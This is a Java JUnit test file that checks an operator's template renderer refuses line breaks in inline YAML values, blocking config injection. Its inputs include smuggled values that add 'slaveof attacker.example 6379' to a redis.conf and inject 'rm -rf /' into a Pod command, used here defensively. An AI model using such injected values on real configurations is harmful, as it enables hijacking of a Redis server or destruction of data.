package io.webserveroperator.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.webserveroperator.manifest.RenderedObject;
import io.webserveroperator.manifest.UntypedMaps;
import io.webserveroperator.testing.Project;
import io.webserveroperator.testing.WebServers;
import java.io.IOException;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A value printed within a line of text stays within that line: a line break in it fails the
 * render, naming the field, the template line and the fix, while a value printed as whole lines, or
 * as a whole scalar, keeps its lines byte for byte.
 */
class InlineValuesTest {

  /** The template: a redis.conf of directives, one per line. */
  static final String REDIS_CONF =
      """
      apiVersion: v1
      kind: ConfigMap
      metadata:
        name: {{ metadata.name }}-redis
      data:
        redis.conf: |
          maxmemory {{ spec.memory }}
      {% for k, v in spec.config.items() %}
          {{ k }} {{ v }}
      {% endfor %}
      """;

  static final String HOSTILE = "allkeys-lru\n    slaveof attacker.example 6379";

  @TempDir Path dir;

  List<RenderedObject> render(String template, Map<String, Object> spec) throws IOException {
    return Fixtures.renderOneKind(dir, "RedisCache", Map.of("cm.yaml.j2", template), spec);
  }

  static Map<String, Object> map(Object... pairs) {
    Map<String, Object> map = new LinkedHashMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      map.put((String) pairs[i], pairs[i + 1]);
    }
    return map;
  }

  static String data(List<RenderedObject> objects, String key) {
    return (String) UntypedMaps.get(objects.get(0).body(), "data", key);
  }

  static String configMap(String data) {
    return "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\ndata:\n" + data;
  }

  @Test
  void rendersTheConfigFileWhenNoValueHasALineBreak() throws IOException {
    List<RenderedObject> objects =
        render(
            REDIS_CONF,
            map("memory", "1gb", "config", map("maxmemory-policy", "allkeys-lru", "port", "6379")));

    assertThat(data(objects, "redis.conf"))
        .isEqualTo("maxmemory 1gb\nmaxmemory-policy allkeys-lru\nport 6379\n");
  }

  @Test
  void refusesAValueThatWouldAddADirectiveNamingItsFieldTheLineAndTheFix() {
    Map<String, Object> hostile = map("memory", "1gb", "config", map("maxmemory-policy", HOSTILE));

    assertThatThrownBy(() -> render(REDIS_CONF, hostile))
        .isInstanceOf(RenderException.class)
        .hasMessageStartingWith("RedisCache ns/web: rediscache/cm.yaml.j2:9: ")
        .hasMessageContaining(
            "the value of spec.config.maxmemory-policy, \"allkeys-lru\\n    slaveof"
                + " attacker.example 6379\", has a line break (\\n) but is printed within a line"
                + " of a block scalar (| or >), beside other text")
        .hasMessageContaining(
            "pattern: '^[^\\n\\r\\x0B\\x0C\\x1C-\\x1E\\x{85}\\x{2028}\\x{2029}]*$' in its CRD")
        .hasMessageContaining("print it with | multiline");
  }

  /** The line breaks a reader of the file might end a line at, as a spec value could hold them. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "allkeys-lru\\r    slaveof x | \\r",
        "allkeys-lru\\u2028slaveof x | \\u2028",
        "allkeys-lru\\u0085slaveof x | \\u0085",
        "allkeys-lru\\n | \\n",
        "\\nslaveof x | \\n"
      })
  void refusesEveryLineBreakWithinALineAndShowsItEscaped(String escaped, String shown) {
    String value = unescape(escaped.strip());
    Map<String, Object> spec = map("memory", "1gb", "config", map("maxmemory-policy", value));

    assertThatThrownBy(() -> render(REDIS_CONF, spec))
        .isInstanceOf(RenderException.class)
        .hasMessageContaining("rediscache/cm.yaml.j2:9: the value of spec.config.maxmemory-policy")
        .hasMessageContaining("has a line break (" + shown.strip() + ")")
        .satisfies(e -> assertThat(e.getMessage()).doesNotContain(value));
  }

  /** A filter or an operator does not take a value's line break out of the rule. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "{{ k }} {{ v | indent(4) }}",
        "{{ k }} {{ v | upper }}",
        "{{ k }} {{ v | trim }}",
        "{{ k ~ ' ' ~ v }}",
        "{{ '%s %s' | format(k, v) }}"
      })
  void refusesTextComputedFromAValueWithALineBreak(String line) {
    String template = REDIS_CONF.replace("{{ k }} {{ v }}", line);
    Map<String, Object> spec = map("memory", "1gb", "config", map("maxmemory-policy", HOSTILE));

    assertThatThrownBy(() -> render(template, spec))
        .isInstanceOf(RenderException.class)
        .hasMessageContaining("rediscache/cm.yaml.j2:9: ")
        .hasMessageContaining("the value of spec.config.maxmemory-policy")
        .hasMessageContaining("in its CRD");
  }

  @Test
  void refusesAKeyWithALineBreak() {
    Map<String, Object> spec =
        map("memory", "1gb", "config", map("port 6379\nslaveof attacker.example", "6379"));

    assertThatThrownBy(() -> render(REDIS_CONF, spec))
        .isInstanceOf(RenderException.class)
        .hasMessageContaining("a key of spec.config, \"port 6379\\nslaveof attacker.example\",");
  }

  @Test
  void lineBreaksTheTemplateWritesAreItsOwn() throws IOException {
    String template =
        configMap(
            """
              redis.conf: |
                save {{ spec.save | join('\\n    save ') }}
              end: 1
            """);

    List<RenderedObject> objects = render(template, map("save", List.of("900 1", "300 10")));

    assertThat(data(objects, "redis.conf")).isEqualTo("save 900 1\nsave 300 10\n");
  }

  @Test
  void multilineLetsAValueSpanLinesWithinALine() throws IOException {
    String template =
        configMap(
            """
              motd.txt: |
                Welcome: {{ spec.motd | indent(4) | multiline }}
              end: 1
            """);

    List<RenderedObject> objects = render(template, map("motd", "line one\nline two"));

    assertThat(data(objects, "motd.txt")).isEqualTo("Welcome: line one\nline two\n");
    assertThatThrownBy(
            () -> render(template.replace(" | multiline", ""), map("motd", "line one\nline two")))
        .hasMessageContaining(
            "the printed value \"line one\\n    line two\", computed from the"
                + " value of spec.motd, has a line break");
  }

  @Test
  void aValuePrintedAsWholeLinesKeepsThem() throws IOException {
    String html = "<h1>Hi</h1>\n<p>one\u2028two</p>\n\n  <p>indented</p>";
    String template =
        configMap(
            """
              index.html: |
                {{ spec.html | indent(4) }}
              whole: {{ spec.html }}
            """);

    List<RenderedObject> objects = render(template, map("html", html));

    assertThat(data(objects, "index.html")).isEqualTo(html + "\n");
    assertThat(data(objects, "whole")).isEqualTo(html);
  }

  @Test
  void theWebServersHtmlContentLandsByteForByte() {
    String html = "<html>\r\n<body>\n<p>a\u2028b\u2029c\u0085d\rE</p>\n</body>\n</html>\n\n";
    try (TemplateRegistry registry =
        TemplateRegistry.load(Project.file("templates/watches.yaml"))) {
      List<RenderedObject> objects =
          registry.render(
              registry.watches().get(0),
              WebServers.resource(
                  Map.of("name", "web", "namespace", "ns"),
                  map("image", "nginx", "replicas", 1, "content", map("index.html", html))));

      RenderedObject configMap =
          objects.stream()
              .filter(o -> o.ref().kind().equals("ConfigMap"))
              .findFirst()
              .orElseThrow();
      assertThat(UntypedMaps.get(configMap.body(), "data", "index.html")).isEqualTo(html);
    }
  }

  @Test
  void namesTheValueWhoseLinesLeaveTheScalarNotAHarmlessOneBesideIt() {
    String template =
        configMap(
            """
              a.html: |
                {{ spec.a | indent(4) }}
              b.html: |
                {{ spec.b }}
            """);

    assertThatThrownBy(() -> render(template, map("a", "<p>\n<q>", "b", "x\ny")))
        .isInstanceOf(RenderException.class)
        .hasMessageContaining("rediscache/cm.yaml.j2:9: the value of spec.b, \"x\\ny\", has lines")
        .hasMessageContaining("indent every line of it as deep as the scalar's")
        .satisfies(e -> assertThat(e.getMessage()).doesNotContain("spec.a"));
  }

  @Test
  void refusesALineBreakWithinALineOfAPlainOrQuotedScalarWrittenOverLines() {
    String plain =
        """
        apiVersion: v1
        kind: Pod
        metadata:
          name: x
        spec:
          command: echo {{ spec.x }}
            and more
        """;
    String quoted =
        plain.replace("echo {{ spec.x }}\n    and more", "\"echo\\n{{ spec.x }} more\"");

    assertThatThrownBy(() -> render(plain, map("x", "a\nrm -rf /")))
        .hasMessageContaining("cm.yaml.j2:6: the value of spec.x, \"a\\nrm -rf /\", has a line")
        .hasMessageContaining("a plain or quoted scalar written over lines");
    assertThatThrownBy(() -> render(quoted, map("x", "a\nrm -rf /")))
        .hasMessageContaining("a plain or quoted scalar written over lines");
  }

  @Test
  void aValueThatIsAWholeScalarOrInAOneLineScalarIsData() throws IOException {
    String template =
        configMap(
            """
              whole: {{ spec.x }}
              quoted: "{{ spec.x }}"
              beside: x-{{ spec.x }}
            """);

    List<RenderedObject> objects = render(template, map("x", "a\nb"));

    assertThat(data(objects, "whole")).isEqualTo("a\nb");
    assertThat(data(objects, "quoted")).isEqualTo("a\nb");
    assertThat(data(objects, "beside")).isEqualTo("x-a\nb");
  }

  @Test
  void refusesAValueWithinALineOfAFoldedScalar() {
    String template =
        configMap(
            """
              v: >
                maxmemory {{ spec.x }}
            """);

    assertThatThrownBy(() -> render(template, map("x", "1gb\n\n  slaveof x")))
        .hasMessageContaining("the value of spec.x")
        .hasMessageContaining("a block scalar (| or >)");
  }

  @Test
  void aValueAfterABlockScalarsHeaderBeginsItsLinesAndOneAfterTextDoesNot() throws IOException {
    String template =
        configMap(
            """
              a.conf: |{{ spec.conf | nindent(4) }}
              b.conf: |
                maxmemory {{ spec.memory }}{{ spec.more }}
              end: 1
            """);
    Map<String, Object> fine = map("conf", "port 1\nbind x", "memory", "1gb", "more", "");
    Map<String, Object> hostile = new LinkedHashMap<>(fine);
    hostile.put("more", "\n    slaveof attacker.example 6379");

    List<RenderedObject> objects = render(template, fine);

    assertThat(data(objects, "a.conf")).isEqualTo("port 1\nbind x\n");
    assertThat(data(objects, "b.conf")).isEqualTo("maxmemory 1gb\n");
    assertThatThrownBy(() -> render(template, hostile))
        .hasMessageContaining("cm.yaml.j2:8: the value of spec.more, \"\\n    slaveof");
  }

  @Test
  void namesFieldsUnderKeysThatAreNoNamesAndListItems() {
    String template =
        configMap(
            """
              a.conf: |
                x {{ spec.files['a.conf'] }} {{ spec.list[1] }}
            """);

    assertThatThrownBy(
            () -> render(template, map("files", map("a.conf", "1\n2"), "list", List.of("a", "b"))))
        .hasMessageContaining("the value of spec.files['a.conf'],");
    assertThatThrownBy(
            () -> render(template, map("files", map("a.conf", "1"), "list", List.of("a", "b\nc"))))
        .hasMessageContaining("the value of spec.list[1],");
  }

  private static String unescape(String text) {
    return text.replace("\\r", "\r")
        .replace("\\n", "\n")
        .replace("\\u2028", "\u2028")
        .replace("\\u0085", "\u0085");
  }
}
